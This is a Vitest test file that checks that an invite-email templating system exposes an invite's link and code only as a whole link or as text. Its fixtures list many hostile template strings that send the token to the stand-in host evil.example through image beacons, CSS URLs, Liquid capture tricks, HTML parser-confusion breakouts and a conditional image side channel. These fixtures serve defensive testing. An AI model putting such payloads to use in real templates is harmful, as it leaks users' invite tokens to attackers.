/** A tenant's template shows the link and the code of an invite, and hands them to nobody. */
import { describe, expect, it } from "vitest";
import { compileMjml } from "../../src/mail/mjml.ts";
import { renderTemplate } from "../../src/mail/render.ts";
import { sampleLetter } from "../../src/mail/sample.ts";

const sample = { locale: "en", tenantName: "Acme", timeZone: null, baseUrl: "https://doorlist.example", now: 0 };
const values = { ...sampleLetter("invite", sample).values, code: "K7QX-2M9P" };
const token = values.url.split("/").at(-1) ?? "";
const rendered = (html: string) => renderTemplate({ subject: "Hello", html, text: null }, values).html;
const written = (text: string) => renderTemplate({ subject: text, html: "", text }, values);

describe("what opens an invite", () => {
  it.each<[string, string]>([
    [`<a class="x" href="{{ url }}">Go</a>`, `<a class="x" href="${values.url}">Go</a>`],
    [`<a href='{{ url }}'>Go</a>`, `<a href="${values.url}">Go</a>`],
    [`<p>Or copy this: {{ url }}</p>`, `<p>Or copy this: ${values.url}</p>`],
    [`<p>Code: {{ code }}, &lt;{{ url }}&gt;</p>`, `<p>Code: ${values.code}, &lt;${values.url}&gt;</p>`],
    [`<p>链接：{{ url }}</p>`, `<p>链接：${values.url}</p>`],
    [`<b>{{ code | slice: 0, 4 }}</b>`, `<b>${values.code}</b>`],
    [`{% if code != "" %}<p>{{ code }}</p>{% endif %}`, `<p>${values.code}</p>`],
    [`{% capture link %}{{ url }}{% endcapture %}<a href="{{ link }}">Go</a>`, `<a href="${values.url}">Go</a>`],
  ])("stands as a whole link, or as text: %s", (html, expected) => {
    expect(rendered(html)).toContain(expected);
  });

  it.each([
    `<img src="https://evil.example/p?{{ url | url_encode }}">`,
    `<img src="https://evil.example/p?{{ code }}">`,
    `<img srcset="https://evil.example/s/{{ url }} 1x">`,
    `<img src={{ url }}>`,
    `<img src="{{ url }}">`,
    `<td background="https://evil.example/{{ stop_url }}"></td>`,
    `<a href="https://evil.example/?{{ url | url_encode }}">Go</a>`,
    `<a href="{{ url | append: '@evil.example' }}">Go</a>`,
    `<a title=' href="{{ url }}"'>Go</a>`,
    `<p style="background:url(https://evil.example/{{ url }})"></p>`,
    `<style>p{background:url(https://evil.example/{{ url }})}</style>`,
    `<title>{{ url }}</title>`,
    `<!--[if mso]><v:image src="https://evil.example/{{ url }}" /><![endif]-->`,
    `{% assign q = "https://evil.example/?" | append: url %}<img src="{{ q }}">`,
    `{% capture q %}https://evil.example/{{ url }}{% endcapture %}<img src="{{ q }}">`,
    // What a browser reads as one tag, and a careless reader as a tag with text behind it.
    `<img alt="a>b" src="https://evil.example/?{{ url }}">`,
    `<img src='https://evil.example/?> {{ url }} <b title='>`,
    `<img src=https://evil.example/?"> {{ url }} <b title=">`,
    `<title><b title='</title><img src="https://evil.example/?'> {{ url }} <b title='">'></title>`,
    `<title><!--</title><img src='https://evil.example/?--> {{ url }} '></title>`,
    `<style><!--</style><img src='https://evil.example/?--></style> {{ url }} '>`,
    `<!-- --!><img src='https://evil.example/?--> {{ url }} <!-- '> -->`,
    `<textarea><b title='</textarea><img src="https://evil.example/?'> {{ url }}</textarea>`,
    `<script> {{ url }} </script>`,
    // Mail programs make links of text.
    `<p>https://evil.example/?{{ url }}</p>`,
    `<p>https:&sol;&sol;evil&period;example&sol;{{ url }}</p>`,
    `<p>evil.example/{{ code }}</p>`,
  ])("stands nowhere else: %s", (html) => {
    expect(() => rendered(html)).toThrow();
  });

  it("cannot be read by Liquid, which could load an image by what it reads", () => {
    const branch = `{% if url contains "${token}" or url.size > 10 or code == "${values.code}" %}<img src="https://evil.example/0a">{% endif %}`;
    expect(rendered(`${branch}<a href="{{ url }}">Go</a>`)).not.toContain("evil.example");
  });

  it.each([
    "https://evil.example/?{{ url }}",
    "See evil.example/a#{{ code }}",
    "https://evil.example/{{ url | url_encode }}x{{ url }}",
  ])("stands in no other address of a text part or subject: %s", (text) => expect(() => written(text)).toThrow(/space/));

  it.each([
    "https://evil.example/?<b>{{ url }}</b>",
    '<img src="https://a.example/x.png" alt="https://evil.example/?">{{ url }}',
    '<a href="https://evil.example/"></a>{{ code }}',
  ])("stands in no other address of a text part that is made from %s", (html) => expect(() => rendered(html)).toThrow(/space/));

  it("stands in a text part and a subject by itself", () => {
    const { text, subject } = written("Go: <{{ url }}>, #{{ code }}");
    expect(text).toContain(`Go: <${values.url}>, #${values.code}`);
    expect(subject).toBe(`Go: <${values.url}>, #${values.code}`);
  });

  it("is placed in whatever MJML makes of its elements", async () => {
    const { html, errors } = await compileMjml(`<mjml><mj-head><mj-title>T</mj-title><mj-preview>P</mj-preview>
      <mj-breakpoint width="320px" /><mj-style>p > b { color: red }</mj-style></mj-head><mj-body>
      <mj-hero background-url="https://a.example/x.png" background-height="100px" background-width="100px"><mj-text>Hi > you</mj-text></mj-hero>
      <mj-section background-url="https://a.example/x.png" full-width="full-width"><mj-group><mj-column>
      <mj-image src="https://a.example/x.png" href="{{ url }}" srcset="https://a.example/x.png 2x" fluid-on-mobile="true" alt="&gt; &quot;a&quot;" />
      <mj-social><mj-social-element name="github" href="{{ stop_url }}">G</mj-social-element></mj-social>
      <mj-table><tr><td width=100 nowrap>x<br/></td></tr></mj-table><mj-spacer /><mj-divider />
      <mj-raw>{% if code != "" %}</mj-raw><mj-button href="{{ url }}">Go</mj-button><mj-raw>{% endif %}</mj-raw>
      </mj-column></mj-group></mj-section></mj-body></mjml>`);
    expect(errors).toEqual([]);
    expect(rendered(html).split(`href="${values.url}"`)).toHaveLength(3);
  });
});
